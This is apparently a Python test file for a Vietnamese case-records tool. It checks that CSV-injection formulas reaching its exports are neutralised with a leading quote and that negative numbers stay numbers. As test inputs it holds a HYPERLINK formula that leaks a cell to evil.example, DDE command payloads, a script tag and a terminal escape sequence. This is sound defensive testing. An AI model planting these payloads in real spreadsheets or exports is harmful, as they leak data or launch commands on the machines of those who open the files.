"""Hostile text (issue 13, item 5): formulas in cells that reach a CSV tthc writes are
neutralised (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

from pathlib import Path

from corpus.framework import CASE_HEADER, Run, Workspace, kind, prints, read, rejects
from tthc.ingest.pipeline import rejects_dir_for

UNKNOWN_STATUS = "Trạng thái không nhận ra"


def rejected_row(w: Workspace, code: str, status: str) -> Path:
    """A case list of one row rejected for its status, ``code`` and ``status`` as given."""
    return w.csv(rows=[[code, "1.001193", "Đăng ký khai sinh", status, "02/06/2026"]])


def neutralised(w: Workspace, code: str, status: str, want_code: str, want_status: str) -> Run:
    """Ingest the row; its cells in the rejects CSV must read ``want_code`` and ``want_status``."""

    def cells() -> None:
        [result] = list(rejects_dir_for(w.db).iterdir())
        [row] = rejects({"rejects_csv": str(result)})
        assert (row["Mã hồ sơ"], row["Trạng thái"]) == (want_code, want_status), row

    w.check(cells)
    return w.ingest(rejected_row(w, code, status))


HOSTILE_ROWS = [
    # name, cell in the export, as it must appear in the rejects CSV, what it is
    ("hostile-hyperlink", '=HYPERLINK("http://evil.example/?d="&A1;"Xem")', "'", "a HYPERLINK formula that leaks a cell"),
    ("hostile-dde-plus", "+cmd|' /C calc'!A0", "'", "a DDE payload behind a plus sign"),
    ("hostile-dde-minus", "-2+3+cmd|' /C calc'!A0", "'", "a DDE payload behind a minus sign"),
    ("hostile-at-function", "@SUM(1+9)*cmd|' /C calc'!A0", "'", "an @-function"),
    ("hostile-leading-space", "   =1+1", "'", "a formula after leading spaces"),
    ("hostile-leading-quote", '"=1+1', "'", "a formula after a double quote"),
    ("hostile-leading-nbsp", "\u00a0=1+1", "'", "a formula after a no-break space"),
    ("hostile-fullwidth-equals", "＝1+1", "'", "a full-width equals sign (East-Asian input methods)"),
    ("hostile-lone-dash", "-", "'", "a lone dash (a placeholder) is quoted too: it starts with '-'"),
    ("hostile-negative-number", "-5", "", "a negative number stays a number"),
    ("hostile-decimal-comma-number", "-1.234,5", "", "a Vietnamese-format negative number stays a number"),
]  # fmt: skip

for _name, _cell, _prefix, _doc in HOSTILE_ROWS:
    kind(
        _name,
        "hostile",
        read(rows=1, rejected=1, reasons=(UNKNOWN_STATUS,)),
        f"{_doc}, in the case code and the status of a rejected row: "
        + ("neutralised with a leading quote in the rejects CSV" if _prefix else "left as it is"),
    )(
        lambda w, c=_cell, p=_prefix: neutralised(
            w, c, c, p + c.strip() if p else c, p + c.strip() if p else c
        )
    )


@kind("hostile-script-tag", "hostile", read(rows=1, rejected=1, reasons=(UNKNOWN_STATUS,)),
      "HTML in a rejected row: kept as text in the rejects CSV (CSV has no markup)")  # fmt: skip
def _(w: Workspace) -> Run:
    tag = "<script>alert(1)</script>"
    return neutralised(w, tag, tag, tag, tag)


@kind("hostile-terminal-escape", "hostile", read(rows=1, rejected=1, reasons=(UNKNOWN_STATUS,)),
      "a terminal escape sequence in a cell: the ESC control character is removed, the rest kept "
      "as text (the status stays unknown), the command output stays JSON")  # fmt: skip
def _(w: Workspace) -> Run:
    return w.ingest(rejected_row(w, "HS-1", "\x1b[2J\x1b[31mxóa màn hình"))


@kind("hostile-formula-in-field-stats-csv", "hostile", prints(r"\n\"'=HYPERLINK\(\"\"http://evil\"\",\"\"Hộ tịch\"\"\)\","),
      "a field (Lĩnh vực) named by a formula, printed by 'tthc stats --csv': neutralised")  # fmt: skip
def _(w: Workspace) -> Run:
    header = [*CASE_HEADER, "Lĩnh vực"]
    rows = [
        [
            "HS-1",
            "1.001193",
            "Đăng ký khai sinh",
            "Đang xử lý",
            "02/06/2026",
            '=HYPERLINK("http://evil","Hộ tịch")',
        ]
    ]
    w.warehouse(w.db, w.csv("fields.csv", rows=rows, header=header))
    return w.stats(fmt="--csv")  # fmt: skip


@kind("hostile-dde-in-field-stats-csv", "hostile", prints(r"\n'\+cmd\|"),
      "a field named by a DDE payload, printed by 'tthc stats --csv': neutralised")  # fmt: skip
def _(w: Workspace) -> Run:
    header = [*CASE_HEADER, "Lĩnh vực"]
    rows = [
        ["HS-1", "1.001193", "Đăng ký khai sinh", "Đang xử lý", "02/06/2026", "+cmd|' /C calc'!A0"]
    ]
    w.warehouse(w.db, w.csv("fields.csv", rows=rows, header=header))
    return w.stats(fmt="--csv")  # fmt: skip
